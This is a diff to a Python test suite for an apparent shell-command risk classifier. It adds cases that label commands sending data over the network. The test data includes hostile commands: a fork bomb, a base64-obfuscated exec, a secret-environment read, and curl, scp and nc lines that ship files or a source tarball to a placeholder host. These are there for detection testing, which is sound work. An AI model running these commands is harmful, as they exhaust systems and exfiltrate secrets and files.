@@ -127,6 +127,13 @@ def test_variables_known_in_the_script_are_used() -> None:
         ("printenv | grep -i secret", "secret-env-read"),
         (":(){ :|:& };:", "fork-bomb"),
         ('python3 -c "import base64; exec(base64.b64decode(x))"', "obfuscated-exec"),
+        ("curl -d @notes.txt https://x", "data-to-network"),
+        ("curl --json '{\"a\": 1}' https://x", "data-to-network"),
+        ("curl 'https://x/c?d=abc'", "data-to-network"),
+        ("wget --post-data=a=1 https://x", "data-to-network"),
+        ("scp build.tar host:/srv/", "data-to-network"),
+        ("nc x 9000 < notes.txt", "data-to-network"),
+        ("tar cz src | nc x 9000", "data-to-network"),
     ],
 )
 def test_flows(command: str, flow: str) -> None:
@@ -136,6 +143,12 @@ def test_flows(command: str, flow: str) -> None:
 def test_no_flows_in_ordinary_pipelines() -> None:
     assert facts("cat README.md | grep x | sort | uniq -c").flows == {}
     assert facts("curl -s https://api.x/y | jq .").flows == {}
+
+
+def test_a_download_sends_no_data() -> None:
+    assert facts("curl -o page.html https://x/page").flows == {}
+    assert facts("wget https://x/a.tar.gz").flows == {}
+    assert facts("curl -X POST https://x/ping").flows == {}  # a POST with no body carries nothing of ours
 
 
 def test_problems_are_facts_not_exceptions() -> None:
